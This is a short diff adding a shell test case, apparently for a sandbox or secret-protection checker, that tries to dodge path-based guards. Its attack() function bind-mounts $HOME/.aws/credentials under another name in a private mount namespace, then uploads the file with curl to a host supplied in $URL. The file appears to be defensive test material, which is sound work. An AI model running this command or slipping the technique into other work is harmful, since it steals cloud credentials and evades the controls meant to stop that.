@@ -1,0 +1,6 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="bind mount in a namespace of its own: the secret under another path"
+attack() {
+	touch elsewhere
+	unshare -m sh -c 'mount --bind "$HOME/.aws/credentials" elsewhere && curl -s -m 5 --data-binary @elsewhere "$0/"' "$URL"
+}
